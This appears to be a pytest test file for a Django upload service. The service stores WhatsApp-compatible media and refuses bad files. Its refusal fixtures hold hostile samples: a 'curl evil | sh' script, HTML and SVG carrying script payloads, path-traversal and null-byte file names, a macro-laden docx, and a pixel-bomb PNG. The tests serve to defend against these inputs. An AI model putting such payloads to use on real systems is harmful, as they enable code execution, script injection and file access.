"""store_upload: every kind WhatsApp takes goes in; every kind of bad file is refused with a clear
message and leaves nothing behind; identical files are stored once; images get a thumbnail."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from accounts.models import BusinessAccount
from media_lib.models import MediaAsset
from media_lib.services import store_upload

from ..media_samples import (
    SAMPLES,
    box,
    jpeg,
    ogg_opus,
    ooxml,
    pdf,
    png,
    upload,
    webp_sticker,
)

pytestmark = pytest.mark.django_db

MB = 1024 * 1024


@pytest.mark.parametrize("name", SAMPLES)
def test_it_stores_each_kind_whatsapp_takes(account, name):
    build, mime_type, kind = SAMPLES[name]
    content = build()

    asset = store_upload(account=account, uploaded_file=upload(name, content), user=None)

    asset.refresh_from_db()
    assert (asset.kind, asset.mime_type, asset.size, asset.original_name) == (kind, mime_type, len(content), name)
    assert asset.sha256 == hashlib.sha256(content).hexdigest()
    assert asset.origin == "uploaded" and asset.download_state == "done"
    with asset.file.open("rb") as stored:
        assert stored.read() == content


def test_it_trusts_the_content_not_the_browsers_claim(account):
    asset = store_upload(account=account, uploaded_file=upload("menu.pdf", pdf(), content_type="image/png"))

    assert (asset.kind, asset.mime_type) == ("document", "application/pdf")


def test_it_remembers_who_uploaded(account, operator):
    asset = store_upload(account=account, uploaded_file=upload("photo.png", png()), user=operator)

    assert asset.created_by == operator


def _webp_padded(extra: int) -> bytes:
    return webp_sticker() + b"\x00" * extra


def _png_claiming(width: int, height: int) -> bytes:
    """A whole PNG (header, one tiny data chunk, end) whose header claims ``width``×``height``: small on disk."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def _html() -> bytes:
    return b"<!doctype html><html><head><script>fetch('/admin/')</script></head></html>"


BAD_FILES = [
    ("empty", "photo.png", lambda: b"", "The file is empty."),
    ("truncated png", "photo.png", lambda: png()[:-30], "This PNG image is cut off or damaged"),
    ("truncated jpeg", "photo.jpg", lambda: jpeg((400, 300))[:300], "This JPEG image is cut off or damaged"),
    ("truncated pdf", "menu.pdf", lambda: pdf()[:-12], "This PDF document is cut off"),
    ("truncated mp4", "clip.mp4", lambda: box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"mdat", b"\x00" * 64)[:-20],
     "This MP4 file is cut off"),
    ("oversize image", "big.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * (5 * MB + 1 - 8),
     "An image may be at most 5.0 MB (5,242,880 bytes); this file is 5,242,881 bytes."),
    ("oversize static sticker", "sticker.webp", lambda: _webp_padded(100 * 1024),
     "A static sticker may be at most 100 KB (102,400 bytes)"),
    ("400 megapixel png", "huge.png", lambda: _png_claiming(20_000, 20_000),
     "This PNG image has far too many pixels; at most 40 million pixels are accepted."),
    ("64 megapixel png", "big.png", lambda: _png_claiming(8_000, 8_000),
     "This PNG image is 8000×8000 pixels; at most 40 million pixels are accepted."),
    ("sticker not 512 px", "sticker.webp", lambda: webp_sticker((64, 64)), "A sticker must be 512×512 pixels; this WebP is 64×64."),
    ("wrong type gif", "funny.gif", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
     "This file is a GIF image, which WhatsApp does not take."),
    ("wrong type zip", "files.zip", lambda: ooxml("readme.txt"), "This file is a ZIP archive, which WhatsApp does not take."),
    ("ogg vorbis", "song.ogg", lambda: ogg_opus().replace(b"OpusHead", b"\x01vorbis"), "only with the Opus codec"),
    ("grayscale png", "scan.png", lambda: png(mode="L"), "WhatsApp takes 8-bit RGB or RGBA PNG images; this one is grayscale."),
    ("lying jpg that is a pdf", "photo.jpg", pdf,
     "The name says .jpg (JPEG image), but the file is a PDF document. Choose the right file, or rename it to .pdf."),
    ("lying png that is a jpeg", "photo.png", jpeg, "The name says .png (PNG image), but the file is a JPEG image."),
    ("lying jpg that is html", "photo.jpg", _html, "This file is an HTML or XML page. HTML, SVG, scripts and programs are never accepted"),
    ("svg", "logo.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "This file is an SVG image."),
    ("html by name", "notes.html", lambda: b"just words", "Files named .html are never accepted"),
    ("script", "run.txt", lambda: b"#!/bin/sh\ncurl evil | sh\n", "This file is a script."),
    ("program", "setup.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 200, "This file is a Windows program."),
    ("macros", "report.docx", lambda: _with_macros(), "contains macros, which are refused"),
]


def _with_macros() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w/>")
        archive.writestr("word/vbaProject.bin", b"\x00" * 16)
    return out.getvalue()


@pytest.mark.parametrize(("case", "name", "build", "message"), BAD_FILES, ids=[case for case, *_ in BAD_FILES])
def test_it_refuses_bad_files_with_a_clear_message_and_keeps_nothing(account, case, name, build, message):
    with pytest.raises(ValidationError) as refused:
        store_upload(account=account, uploaded_file=upload(name, build()))

    assert message in refused.value.messages[0]
    assert MediaAsset.objects.count() == 0


def test_it_accepts_an_animated_sticker_up_to_500_kb(account):
    asset = store_upload(account=account, uploaded_file=upload("party.webp", webp_sticker(animated=True)))

    assert asset.kind == "sticker"


@pytest.mark.parametrize(
    "name", ["..\\..\\windows\\photo.png", "C:\\Users\\olivia\\menu.png", "photo\x00.png", "tab\tname.png"]
)
def test_it_refuses_a_name_with_path_or_control_characters(account, name):
    with pytest.raises(ValidationError, match="folder or control characters"):
        store_upload(account=account, uploaded_file=upload(name, png()))

    assert MediaAsset.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        # Django's upload handling keeps only what follows the last "/" before we see the name.
        ("../../etc/passwd", "passwd.png"),
        ("/tmp/<script>x.png", "scriptx.png"),
        ("<script>x.png", "scriptx.png"),
        ("...", "file.png"),
        (".hidden.png", "hidden.png"),
        ("menu of the day.png", "menu of the day.png"),
    ],
)
def test_it_keeps_only_a_safe_base_name(account, name, safe):
    asset = store_upload(account=account, uploaded_file=upload(name, png()))

    assert asset.original_name == safe
    assert asset.file.name.startswith(f"media_lib/{account.pk}/uploaded/")
    assert ".." not in asset.file.name and "passwd" not in asset.file.name


def test_it_gives_a_name_without_extension_the_right_one(account):
    asset = store_upload(account=account, uploaded_file=upload("Price list", pdf()))

    assert asset.original_name == "Price list.pdf"


def test_it_stores_an_identical_file_once_per_account(account):
    other = BusinessAccount.objects.create(name="Other", waba_id="555", access_token="t", app_secret="s", verify_token="v")
    content = png()

    first = store_upload(account=account, uploaded_file=upload("a.png", content))
    again = store_upload(account=account, uploaded_file=upload("copy of a.png", content))
    elsewhere = store_upload(account=other, uploaded_file=upload("a.png", content))

    assert again.pk == first.pk and again.original_name == "a.png"
    assert (first.deduplicated, again.deduplicated) == (False, True)
    assert elsewhere.pk != first.pk
    assert MediaAsset.objects.filter(account=account).count() == 1


def test_it_makes_a_thumbnail_for_images(account):
    asset = store_upload(account=account, uploaded_file=upload("wide.jpg", jpeg((1200, 800))))

    assert (asset.width, asset.height) == (1200, 800)
    with asset.thumbnail.open("rb") as thumbnail:
        image = Image.open(io.BytesIO(thumbnail.read()))
        assert image.format == "JPEG" and max(image.size) == 320


def test_it_keeps_a_stickers_transparency_in_its_thumbnail(account):
    asset = store_upload(account=account, uploaded_file=upload("sticker.webp", webp_sticker(alpha=100)))

    assert asset.thumbnail.name.endswith(".png")


def test_it_makes_no_thumbnail_for_documents(account):
    asset = store_upload(account=account, uploaded_file=upload("menu.pdf", pdf()))

    assert not asset.thumbnail


def test_on_the_filesystem_files_land_under_media_root_by_content_not_by_name(account, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"}}
    content = png()

    asset = store_upload(account=account, uploaded_file=upload("../../../../tmp/evil.png", content))

    sha = hashlib.sha256(content).hexdigest()
    stored = tmp_path / "media_lib" / str(account.pk) / "uploaded" / sha[:2] / f"{sha}.png"
    assert asset.file.name == f"media_lib/{account.pk}/uploaded/{sha[:2]}/{sha}.png"
    assert stored.read_bytes() == content
    assert asset.original_name == "evil.png" and not (tmp_path.parent / "evil.png").exists()
